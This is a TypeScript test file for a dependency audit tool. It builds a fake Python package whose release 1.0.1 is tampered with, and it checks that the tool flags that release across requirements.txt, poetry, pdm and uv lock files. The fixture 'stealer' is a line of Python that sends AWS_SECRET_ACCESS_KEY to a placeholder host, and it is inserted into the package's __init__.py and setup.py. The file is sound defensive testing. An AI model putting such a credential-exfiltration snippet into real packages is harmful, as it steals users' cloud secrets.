import { join } from 'node:path'
import type { AuditReport } from '@galley/findings'
import { tempFolder } from '@galley/testkit/vitest'
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest'
import { serveFiles, type LoopbackIndex } from './loopback-index.ts'
import { packRelease } from './pack-release.ts'
import { packWheel } from './pack-wheel.ts'
import { audit, commit, write } from './project.ts'

const metadata = (version: string): string => `Metadata-Version: 2.1\nName: taken\nVersion: ${version}\n`
const code = 'def double(number):\n    return number * 2\n'
const stealer = "import os, urllib.request\nurllib.request.urlopen('https://x.invalid/' + os.environ['AWS_SECRET_ACCESS_KEY'])\n"
const wheelOf = (version: string, more: string): Uint8Array =>
  packWheel({ 'taken/__init__.py': code + more, [`taken-${version}.dist-info/METADATA`]: metadata(version) })
const sdistOf = async (version: string, more: string): Promise<Uint8Array> =>
  packRelease({ 'PKG-INFO': metadata(version), 'setup.py': `${more}from setuptools import setup\nsetup(name="taken")\n`, 'taken.py': code })

const [wheel, sdist] = ['taken-VERSION-py3-none-any.whl', 'taken-VERSION.tar.gz']
const now = new Date('2026-11-20T12:00:00Z')

let index: LoopbackIndex
let folder: string

beforeAll(async () => {
  const all = [
    { version: '1.0.0', more: '', publishedAt: '2026-01-01T00:00:00Z' },
    { version: '1.0.1', more: stealer, publishedAt: '2026-11-20T06:00:00Z', yanked: 'stolen' },
    { version: '1.0.2', more: '' },
  ]
  index = await serveFiles(
    (
      await Promise.all(
        all.map(async ({ version, more, ...said }) => [
          { name: 'taken', version, file: wheel.replace('VERSION', version), bytes: wheelOf(version, more), ...said },
          { name: 'taken', version, file: sdist.replace('VERSION', version), bytes: await sdistOf(version, more), ...said },
        ]),
      )
    ).flat(),
  )
})
afterAll(async () => index.close())
beforeEach(() => {
  folder = tempFolder()
})

type Lock = (version: string, file: string) => Readonly<Record<string, string>>

const hashOf = (version: string, file: string): string => `sha256:${index.sha256Of(file.replace('VERSION', version))}`

const requirements: Lock = (version, file) => ({ 'requirements.txt': `taken==${version} --hash=${hashOf(version, file)}\n` })
const poetry: Lock = (version, file) => ({
  'poetry.lock': `[[package]]\nname = "taken"\nversion = "${version}"\noptional = false\nfiles = [{file = "${file.replace('VERSION', version)}", hash = "${hashOf(version, file)}"}]\n\n[metadata]\nlock-version = "2.1"\n`,
  'pyproject.toml': '[project]\nname = "project"\nversion = "0.1.0"\ndependencies = ["taken"]\n',
})
const pdm: Lock = (version, file) => ({
  'pdm.lock': `[metadata]\nlock_version = "4.5.0"\n\n[[package]]\nname = "taken"\nversion = "${version}"\nfiles = [{file = "${file.replace('VERSION', version)}", hash = "${hashOf(version, file)}"}]\n`,
  'pyproject.toml': '[project]\nname = "project"\nversion = "0.1.0"\ndependencies = ["taken"]\n',
})
const uv: Lock = (version, file) => ({
  'uv.lock': `version = 1\nrequires-python = ">=3.12"\n\n[[package]]\nname = "project"\nversion = "0.1.0"\nsource = { virtual = "." }\ndependencies = [{ name = "taken" }]\n\n[[package]]\nname = "taken"\nversion = "${version}"\nsource = { registry = "https://pypi.org/simple" }\nwheels = [{ url = "https://files.pythonhosted.org/packages/${file.replace('VERSION', version)}", hash = "${hashOf(version, file)}" }]\n`,
  'pyproject.toml': '[project]\nname = "project"\nversion = "0.1.0"\ndependencies = ["taken"]\n',
})

async function report(lock: Lock, file: string, to = '1.0.1'): Promise<{ readonly report: AuditReport; readonly code: number }> {
  commit(folder, lock('1.0.0', file))
  write(folder, lock(to, file))
  const args = ['--since', 'HEAD', '--only', 'upgrades', '--data', join(folder, '.data'), '--json']
  const env = { PATH: process.env['PATH'], PIP_INDEX_URL: `${index.url}/simple` }
  const { out, code: exit, said } = await audit(folder, args, { env, fetch, clock: () => now })
  if (out === '') throw new Error(said)
  return { report: JSON.parse(out) as AuditReport, code: exit }
}

test.each([
  ['requirements.txt', requirements, wheel],
  ['requirements.txt of a source archive', requirements, sdist],
  ['poetry.lock', poetry, wheel],
  ['pdm.lock', pdm, wheel],
  ['uv.lock', uv, wheel],
])('a stolen release in %s is told, with the lines that show it', async (_, lock, file) => {
  const { report: told, code: exit } = await report(lock, file)
  const first = told.findings.find((one) => one.code === 'capability-gained')
  expect(told.upgrades?.cards.map(({ from, to, opened }) => ({ from, to, opened }))).toEqual([{ from: '1.0.0', to: '1.0.1', opened: true }])
  expect(first?.severity).toBe(file === sdist ? 'critical' : 'high')
  expect(JSON.stringify(first?.evidence['lines'])).toContain('AWS_SECRET_ACCESS_KEY')
  expect(exit).toBe(1)
})

test('the index says how young a release is, and that it was withdrawn', async () => {
  const { findings } = (await report(requirements, wheel)).report
  const told = findings.map(({ severity, code: word, message }) => `${severity} ${word}: ${message}`)
  expect(told).toContainEqual('high too-young: was released 6 hours ago; the policy asks for 72 hours')
  expect(told).toContainEqual('low unmaintained: it was withdrawn: stolen')
})

test('a release without the time that the one before had is a finding', async () => {
  const { findings } = (await report(requirements, wheel, '1.0.2')).report
  expect(findings.map(({ severity, code: word }) => `${severity} ${word}`)).toEqual(['medium too-young'])
})
